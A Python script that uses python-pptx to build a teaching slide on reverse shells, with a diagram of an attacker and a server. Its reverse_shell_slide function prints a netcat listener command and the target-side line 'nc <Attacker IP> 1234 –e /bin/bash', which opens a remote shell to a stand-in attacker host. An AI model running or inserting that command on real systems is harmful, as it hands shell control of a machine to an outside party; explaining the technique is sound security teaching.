
from dataclasses import dataclass

import lxml.etree
import pptx
import pptx.dml.color
import pptx.enum.shapes
import pptx.enum.text
import pptx.oxml.ns
import pptx.util

PX = 9144  # EMU per px, 100 px to the inch
SHAPE = pptx.enum.shapes.MSO_SHAPE


@dataclass(frozen=True)
class Theme:
    font: str = "Calibri"
    title_size: float = 39.6
    body_size: int = 24
    label_size: int = 18
    background: str = "F2F2F2"
    white: str = "FFFFFF"
    black: str = "000000"
    title: str = "262626"
    frame: str = "404040"
    body: str = "273239"
    label: str = "FF0000"
    command: str = "00FF00"
    arrow: str = "00B0F0"
    hood: str = "404040"
    skin: str = "808080"
    laptop: str = "595959"
    hinge: str = "262626"
    cabinet_top: str = "323241"
    cabinet: str = "525074"
    foot: str = "E2E7F4"
    lid: str = "B1C0E0"
    drive: str = "E7EBF6"
    tick: str = "EEEDED"
    lamp: str = "D7E0F5"


THEME = Theme()

# Attacker outlines, in px from the corner of the figure
CROWN = [(38, 82), (40, 74), (62, 25), (85, 6), (109, 0), (125, 6), (146, 23),
         (167, 61), (171, 81), (171, 89)]
BODY = [
    [(55, 122), (51, 118), (39, 92), *CROWN, (167, 105), (156, 121), (155, 122)],
    [(155, 122), (168, 127), (173, 132), (194, 163), (203, 179), (211, 197),
     (206, 212), (192, 221), (176, 228)],
    [(34, 227), (8, 217), (4, 214), (0, 201), (7, 184), (15, 167), (20, 159),
     (35, 136), (43, 128), (55, 122)],
]
HOOD = [CROWN, [(171, 89), (161, 83), (145, 76), (128, 72), (107, 69), (90, 71),
                (83, 72), (52, 79), (38, 82)]]
MASK = [
    [(139, 80), (126, 108), (109, 116), (88, 110), (73, 86), (72, 80)],
    [(72, 80), (76, 82), (90, 84), (100, 81), (113, 82), (126, 85), (134, 83), (139, 80)],
]
LEFT_EYE = [[(82, 72), (89, 70), (96, 70), (99, 74), (97, 76), (88, 79), (84, 76), (82, 72)]]
RIGHT_EYE = [[(114, 70), (129, 72), (128, 75), (121, 79), (115, 77), (113, 72), (114, 70)]]


def rgb(color):
    return pptx.dml.color.RGBColor.from_string(color)


def paint(shape, color):
    shape.shadow.inherit = False
    shape.fill.solid()
    shape.fill.fore_color.rgb = rgb(color)
    shape.line.fill.background()


def block(page, box, color, kind=SHAPE.RECTANGLE, corners=()):
    shape = page.shapes.add_shape(kind, *(length * PX for length in box))
    paint(shape, color)
    for index, corner in enumerate(corners):
        shape.adjustments[index] = corner
    return shape


def write(shape, text, size, color, left_inset=10):
    frame = shape.text_frame
    frame.word_wrap = True
    frame.vertical_anchor = pptx.enum.text.MSO_ANCHOR.TOP
    frame.margin_left, frame.margin_right = left_inset * PX, 10 * PX
    frame.margin_top = frame.margin_bottom = 5 * PX
    para = frame.paragraphs[0]
    para.text = text
    para.alignment = pptx.enum.text.PP_ALIGN.LEFT
    para.font.name = THEME.font
    para.font.size = pptx.util.Pt(size)
    para.font.color.rgb = rgb(color)
    return para


def label(page, box, text, size, color):
    write(page.shapes.add_textbox(*(length * PX for length in box)), text, size, color)


def command(page, box, text):
    write(block(page, box, THEME.black), text, THEME.label_size, THEME.command, left_inset=16)


def smooth(arc, steps=6):
    """Points of a Catmull-Rom curve through the points of the arc."""
    padded = [arc[0], *arc, arc[-1]]
    for a, b, c, d in zip(padded, padded[1:], padded[2:], padded[3:]):
        for step in range(steps):
            t = step / steps
            yield tuple(
                q + t * (r - p) / 2 + t**2 * (2 * p - 5 * q + 4 * r - s) / 2
                + t**3 * (3 * q - p - 3 * r + s) / 2
                for p, q, r, s in zip(a, b, c, d))
    yield arc[-1]


def outline(page, left, top, arcs, color):
    points = [(round((left + x) * PX), round((top + y) * PX))
              for arc in arcs for x, y in smooth(arc)]
    builder = page.shapes.build_freeform(*points[0], scale=1.0)
    builder.add_line_segments(points[1:], close=True)
    paint(builder.convert_to_shape(), color)


def title_box(page, box, text):
    shape = block(page, box, THEME.white)
    shape.line.color.rgb = rgb(THEME.frame)
    shape.line.width = pptx.util.Pt(2.5)
    para = write(shape, text, THEME.title_size, THEME.title)
    shape.text_frame.vertical_anchor = pptx.enum.text.MSO_ANCHOR.MIDDLE
    para.alignment = pptx.enum.text.PP_ALIGN.CENTER
    para.line_spacing = 0.9
    # Letter spacing of 2 pt
    para._p.get_or_add_pPr().get_or_add_defRPr().set("spc", "200")


def attacker(page, left, top):
    for arcs, color in ((BODY, THEME.black), (HOOD, THEME.hood), (MASK, THEME.skin),
                        (LEFT_EYE, THEME.skin), (RIGHT_EYE, THEME.skin)):
        outline(page, left, top, arcs, color)
    # Laptop: screen, base and hinge
    block(page, (left + 33, top + 152, 143, 84), THEME.laptop, SHAPE.ROUNDED_RECTANGLE, [0.05])
    block(page, (left + 33, top + 238, 143, 5), THEME.laptop, SHAPE.ROUNDED_RECTANGLE, [0.3])
    block(page, (left + 37, top + 236, 134, 3), THEME.hinge)


def server(page, left, top):
    # Cabinet
    for offset, color in ((1, THEME.cabinet_top), (5, THEME.cabinet)):
        block(page, (left, top + offset, 134, 188), color, SHAPE.ROUNDED_RECTANGLE, [0.04])
    block(page, (left + 15, top + 193, 105, 18), THEME.foot,
          SHAPE.ROUND_2_SAME_RECTANGLE, [0, 0.2])
    block(page, (left + 18, top, 103, 3), THEME.lid)
    # Drives: bar, tick and lamp in each row
    for shift, drop in ((0, 25), (0, 66), (2, 112), (2, 156)):
        x, y = left + shift, top + drop
        block(page, (x + 23, y, 83, 15), THEME.drive, SHAPE.ROUNDED_RECTANGLE, [0.5])
        block(page, (x + 12, y - 5, 4, 25), THEME.tick, SHAPE.ROUNDED_RECTANGLE, [0.3])
        block(page, (x + 111, y + 1, 13, 13), THEME.lamp, SHAPE.OVAL)


def arrow(page, start, end, y):
    line = page.shapes.add_connector(
        pptx.enum.shapes.MSO_CONNECTOR.STRAIGHT, start * PX, y * PX, end * PX, y * PX)
    line.line.color.rgb = rgb(THEME.arrow)
    line.line.width = pptx.util.Pt(4.5)
    qn = pptx.oxml.ns.qn
    lxml.etree.SubElement(line.line._get_or_add_ln(), qn("a:tailEnd"), type="triangle")
    lxml.etree.SubElement(line._element.spPr, qn("a:effectLst"))


def reverse_shell_slide(deck):
    page = deck.slides.add_slide(deck.slide_layouts[6])
    page.background.fill.solid()
    page.background.fill.fore_color.rgb = rgb(THEME.background)
    # Heading and explanation
    title_box(page, (244, 27, 845, 87), "WHAT IS REVERSE SHELL ?")
    label(page, (215, 127, 926, 250),
          "A reverse shell or connect-back is a setup, where the attacker must first start "
          "the server on his machine, while the target machine will have to act as a client "
          "that connects to the server served by the attacker. After the successful "
          "connection, the attacker can gain access to the shell of the target computer.",
          THEME.body_size, THEME.body)
    # Diagram
    server(page, 1065, 386)
    attacker(page, 63, 375)
    arrow(page, 1008, 291, 499)
    label(page, (331, 431, 845, 50), "Server Connects to Attacker on port 1234",
          THEME.body_size, THEME.black)
    command(page, (63, 655, 193, 40), "nc –lvp 1234")
    command(page, (807, 616, 504, 40), "nc <Attacker IP> 1234 –e /bin/bash")
    label(page, (1083, 338, 103, 40), "Server", THEME.label_size, THEME.label)
    label(page, (90, 336, 125, 40), "Attacker", THEME.label_size, THEME.label)


def main():
    deck = pptx.Presentation()
    deck.slide_width, deck.slide_height = 1333 * PX, 750 * PX
    reverse_shell_slide(deck)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
